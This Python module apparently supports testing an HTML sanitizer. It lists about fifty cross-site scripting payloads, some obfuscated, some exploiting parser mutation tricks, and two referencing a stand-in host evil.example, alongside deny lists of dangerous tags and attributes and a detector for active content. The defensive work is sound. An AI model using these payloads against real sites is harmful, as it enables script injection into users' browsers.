"""HTML that acts, in the dresses it comes in, and what a browser's parser would still find acting."""

from __future__ import annotations

import re
from collections.abc import Iterator

from selectolax.lexbor import LexborHTMLParser, LexborNode

ACTIVE = (
    "<script>ran()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=ran()>",
    "<img src=x onerror='ran()' ONLOAD=\"ran()\">",
    "<svg onload=ran()><path d='M0 0'/></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:ran() /><text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=ran()></svg>",
    "<svg><script>ran()</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran()>#x'/></svg>",
    "<svg><foreignObject><body onload=ran()></foreignObject></svg>",
    "<math><maction actiontype='statusline#x' xlink:href='javascript:ran()'>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<a href='javascript:ran()'>x</a>",
    "<a href='JaVaScRiPt:ran()'>x</a>",
    "<a href='java\tscript:ran()'>x</a>",
    "<a href='&#1;javascript:ran()'>x</a>",
    "<a href='java&#26;script:ran()'>x</a>",
    "<a href='&#26;javascript:ran()'>x</a>",
    "<a href='java\x1ascript:ran()'>x</a>",
    "<a href='jav&#x0A;ascript:ran()'>x</a>",
    "<a href='vbscript:ran()'>x</a>",
    "<a href='data:text/html,<script>ran()</script>'>x</a>",
    "<a href='DATA:text/html,x'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=ran()>'>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src='javascript:parent.ran()'></iframe>",
    "<object data='javascript:ran()'></object>",
    "<embed src='javascript:ran()'>",
    "<form action='javascript:ran()'><button>x</button></form>",
    "<button formaction='javascript:ran()' form=x>x</button>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>x</details>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()></audio>",
    "<style>@import 'javascript:ran()';</style>",
    "<p style='background:url(javascript:ran())'>x</p>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div>",
    "<link rel=stylesheet href='javascript:ran()'>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<base href='javascript:ran()//'>",
    "<template><img src=x onerror=ran()></template>",
    "<marquee onstart=ran()>x</marquee>",
    "<x-y onclick=ran() tabindex=0>x</x-y>",
    "<b contenteditable onbeforeinput=ran()>x</b>",
    "<a ping='https://evil.example/' href='x'>x</a>",
    "<img srcset='x 1x' src=x><map name=m><area href='javascript:ran()'></map>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=ran()>x</div>",
    "</div></span></p><img src=x onerror=ran()>",
)
ELEMENTS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "select", "textarea", "video", "audio",
    "source", "canvas", "noscript", "template", "base", "link", "meta", "animate", "set", "use", "foreignobject",
    "frame", "frameset", "applet", "marquee", "area", "map", "math",
}  # fmt: skip
ADDED = {"srcdoc", "style", "action", "formaction", "ping", "srcset", "id", "name"}
ADDRESS = re.compile(r"[\x00-\x20]*(?:javascript|vbscript|data(?!:image/(?:png|jpeg|gif|webp|avif)[;,]))\s*:", re.I)


def acting(html: str) -> Iterator[str]:
    """What in a piece of HTML acts, as a parser of browsers' rules reads it."""
    tree = LexborHTMLParser(html)
    nodes: list[LexborNode] = list(tree.body.traverse()) if tree.body is not None else []
    for node in nodes:
        if node.tag in ELEMENTS:
            yield f"<{node.tag}>"
        for name, value in node.attributes.items():
            plain = re.sub(r"[\x00-\x20\x7f-\x9f]", "", value or "")
            if name.startswith("on") or name in ADDED:
                yield f"{name}={value}"
            if ADDRESS.match(plain):
                yield f"{name}={value}"
